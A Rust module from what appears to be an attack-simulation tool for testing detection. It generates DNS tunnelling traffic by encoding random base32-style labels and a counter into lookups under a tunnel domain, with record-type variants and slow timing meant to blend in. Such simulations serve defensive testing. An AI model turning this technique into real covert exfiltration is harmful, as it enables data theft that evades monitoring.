//! DNS tunnel: data leave in the labels of names under a domain whose server belongs to the intruder, and
//! come in with its answers.

use simple_dns::TYPE;

use super::{Attack, Needs, technique};
use crate::net::names::TUNNEL;
use crate::plant::Role;
use crate::rng::Rng;
use crate::stage::{Intensity, Outcome, Stage};

pub static ATTACK: Attack = Attack {
    name: "dns-tunnel",
    about: "hides data in the labels of names that are looked up",
    technique: technique("T0869"),
    acceptable: &["T0882", "T0884"],
    grade: "B",
    kind: "fast",
    proto: "dns",
    variants: &["txt", "null", "a", "known"],
    needs: Needs::Sockets,
    seconds: [1500, 120, 30],
    run: |stage| Box::pin(run(stage)),
};

async fn run(mut stage: Stage) -> Outcome {
    let sender = if stage.is("known") { stage.known(Role::Cloud) } else { stage.stranger() };
    let kind = match stage.variant {
        "null" => TYPE::NULL,
        "a" => TYPE::A,
        _ => TYPE::TXT,
    };
    for nth in 0..stage.by(38_u32, 240, 1500) {
        // Slowly, a name is no longer than those of content networks.
        let lengths = stage.by(10..18, 30..56, 50..59);
        let labels = stage.by(1, 2, 3);
        let name = name(&mut stage.rng, nth, labels, lengths);
        drop(sender.resolve(&name, kind).await);
        let wait = match stage.intensity {
            Intensity::Slow => stage.rng.within(20.0, 60.0),
            _ => stage.by(0.0, 0.5, 0.02),
        };
        stage.pause(wait).await;
    }
    Ok(())
}

/// A name with data in it: a counter, and labels that look like base 32. A label has at most 63 bytes, a
/// name 253 (RFC 1035, 2.3.4).
fn name(rng: &mut Rng, nth: u32, labels: usize, lengths: std::ops::Range<u64>) -> String {
    let mut name = String::new();
    for _ in 0..labels {
        let length = rng.between(lengths.start, lengths.end) as usize;
        name.extend(rng.bytes(length).iter().map(|byte| char::from(ALPHABET[usize::from(byte & 31)])));
        name.push('.');
    }
    format!("{nth:x}-{name}{TUNNEL}")
}

const ALPHABET: &[u8; 32] = b"abcdefghijklmnopqrstuvwxyz234567";

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn names_keep_within_the_limits() {
        let mut rng = Rng::new(3);
        for nth in 0..2000 {
            let name = name(&mut rng, nth, 3, 50..59);
            assert!(name.len() <= 253 && name.split('.').all(|label| label.len() <= 63), "{name}");
        }
    }
}
